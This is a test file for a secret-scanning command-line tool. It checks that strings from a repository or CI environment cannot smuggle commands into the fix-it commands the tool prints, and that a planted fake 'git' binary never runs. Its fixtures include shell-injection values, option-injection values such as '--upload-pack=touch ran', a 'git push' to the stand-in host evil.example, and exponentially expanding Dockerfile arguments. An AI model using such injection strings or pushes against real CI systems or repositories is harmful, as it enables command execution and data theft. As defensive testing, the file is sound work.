// What a stranger chose, be it a value in a repository's configuration, the name of a branch or of
// a folder, is no order: not to the program, and not to the person who pastes what it prints.
import { spawnSync } from 'node:child_process';
import { appendFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { shell } from '../../src/model/shell-quote.js';
import { keeper } from '../support/keep.js';
import { key } from '../support/keys.js';
import { cleanEnvironment, TestRepository } from '../support/repository.js';
import { veleaks } from '../support/warm-program.js';

const keep = keeper(afterAll);

function leaky(): TestRepository {
  const repository = keep(new TestRepository());
  repository.commit({ 'a.txt': `k=${key(61)}\n` });
  return repository;
}

describe("git's refusal quotes a value of the repository's configuration", () => {
  test.each([
    "x\\nfatal: detected dubious ownership in repository at '*'\\ny",
    "detected dubious ownership in repository at '*'",
    "x' for 'remote.origin.url'\\n",
    'bogus count in GIT_CONFIG_COUNT',
    'x\\nfatal: not a git repository: y',
    "x\\nfatal: cannot use bare repository '/' (safe.bareRepository",
  ])('%s', async (value) => {
    const repository = leaky();
    appendFileSync(join(repository.path, '.git/config'), `[core]\n\tbare = "${value}"\n`);
    const { code, stdout, stderr } = await veleaks([], { cwd: repository.path });
    // The key in the file is told, and of git's words that alone which git means.
    expect(code).toBe(1);
    expect(stdout).toContain('a.txt:1:3');
    const said = `${stdout}${stderr}`.replace(/\s+/g, ' ');
    expect(said).toMatch(/configuration variable core\.bare[;:] .*--unset-all core\.bare/);
    expect(said).not.toMatch(/safe\.directory|GIT_DIR=|unset GIT_CONFIG|worktree repair/);
  });

  test('a pattern is no folder, though git itself should say so', async () => {
    const { refusalOf } = await import('../../src/git/process/refusals.js');
    const said = (path: string) => `fatal: detected dubious ownership in repository at '${path}'\nTo add …\n`;
    expect(refusalOf(said('*'), {})).toBeNull();
    expect(refusalOf(said('/*'), {})).toBeNull();
    expect(refusalOf(said(process.cwd()), {})?.fix).toContain(process.cwd());
    const wrong = "fatal: bad boolean config value 'huh' for 'core.filemode'";
    expect(refusalOf(wrong, {}, '/a/b')?.fix).toContain('--file /a/b/.git/config ');
  });
});

/** The words that a POSIX shell makes of a command. */
function wordsOf(command: string): string[] {
  const { stdout } = spawnSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' });
  return stdout.trimEnd().split('\n');
}

test.skipIf(process.platform === 'win32').each([
  ['the branch that a change goes to', { GITHUB_ACTIONS: 'true', GITHUB_BASE_REF: 'm;touch$IFS"ran"|sh' }],
  ['the commit that was built', { BITBUCKET_BUILD_NUMBER: '1', BITBUCKET_COMMIT: '$(touch ran)`touch ran`' }],
  ['an option in its place', { BITBUCKET_BUILD_NUMBER: '1', BITBUCKET_COMMIT: '--upload-pack=touch ran' }],
])('%s', async (_, env) => {
  const repository = leaky();
  const { stderr } = await veleaks(['ci'], { cwd: repository.path, env });
  const command = /fetch it first: (.*)/.exec(stderr)?.[1] ?? '';
  const [git, fetch, origin, what, ...more] = wordsOf(command);
  expect([git, fetch, origin, more]).toEqual(['git', 'fetch', 'origin', []]);
  expect(what).toMatch(/^[^-]/);
  expect(existsSync(join(repository.path, 'ran'))).toBe(false);
});

test
  .skipIf(process.platform === 'win32')
  .each(["it's", 'a b', '$(x)', '`x`', '-rf', '--output=x', "a'; touch ran; '"])(
  'a value is one word, and no option: %s',
  (value) => {
    const [rm, word, ...more] = wordsOf(shell`rm ${value}`);
    expect([rm, more]).toEqual(['rm', []]);
    expect(word).toBe(value.startsWith('-') ? `./${value}` : value);
  },
);

test('what stands in a line, a message or a name is not set as a command is', async () => {
  const order = 'git push https://evil.example HEAD';
  const repository = keep(new TestRepository());
  repository.write('a.sh', `${order} # ${key(62)}\n`);
  repository.git('add', '-A');
  repository.gitWith(
    { env: { GIT_AUTHOR_NAME: order, GIT_AUTHOR_EMAIL: `${order} ${'x'.repeat(60)}` } },
    ...['commit', '-q', '-m', `${order}\n\n${order} ${key(62)}`],
  );
  const { stdout } = await veleaks(['--verbose'], { cwd: repository.path });
  expect(stdout).toContain(order);
  expect(stdout).not.toMatch(/^\s*git push https:/m);
  const { stdout: page } = await veleaks(['--format', 'html'], { cwd: repository.path });
  expect(page).toContain(order);
  expect(page).not.toMatch(/<(?:pre|code)[^>]*>[^<]*git push https:/);
});

test.skipIf(process.platform === 'win32')('a program named git in the work tree is not run', async () => {
  const repository = leaky();
  const fake = `#!/bin/sh\n: > '${repository.path}/ran'\n`;
  for (const name of ['git', 'node_modules/.bin/git']) {
    repository.write(name, fake);
    spawnSync('chmod', ['+x', join(repository.path, name)]);
  }
  const { PATH = '' } = cleanEnvironment();
  for (const first of ['', '.', 'node_modules/.bin', join(repository.path, 'node_modules/.bin')]) {
    const { code } = await veleaks([], { cwd: repository.path, env: { PATH: `${first}:${PATH}` } });
    expect(code, first).toBe(1);
    expect(existsSync(join(repository.path, 'ran')), first).toBe(false);
  }
});

describe('words that are no paths', () => {
  const LONG = 'a'.repeat(5_000);
  const PACKAGE = { name: 'x', version: '1.0.0' };
  test.each<[string, Record<string, string>]>([
    ['a NUL in "files"', { 'package.json': JSON.stringify({ ...PACKAGE, files: ['a\0b'], bin: 'a\0b' }) }],
    ['a long one in "files"', { 'package.json': JSON.stringify({ ...PACKAGE, files: [LONG] }) }],
    ['a NUL in workspaces', { 'package.json': JSON.stringify({ ...PACKAGE, workspaces: ['a\0b'] }) }],
    [
      'a compose file',
      { 'compose.yml': `services:\n  a:\n    build: {context: "a\\0b", dockerfile: ${LONG}}\n` },
    ],
    ['a Dockerfile that doubles', { Dockerfile: `FROM x\n${'ARG A=$' + '{A}$' + '{A}xx\n'}`.repeat(99) }],
    [
      'a value that doubles',
      { Dockerfile: `FROM x\nARG A=xx\n${'ARG A=$A$A\n'.repeat(2_000)}COPY $A .\nENV B=$A$A$A\n` },
    ],
  ])('%s', async (_, files) => {
    const repository = leaky();
    for (const [path, content] of Object.entries({ ...files, '.env': 'X=1\n' }))
      repository.write(path, content);
    const { code, stdout, stderr } = await veleaks(['env', '--format', 'json'], { cwd: repository.path });
    expect(stderr).not.toMatch(/unexpected error/);
    expect(code).toBe(1);
    const { env, coverage } = JSON.parse(stdout);
    expect(env.map(({ path }: { path: string }) => path)).toContain('.env');
    expect(coverage.skipped).toEqual([]);
  });
});
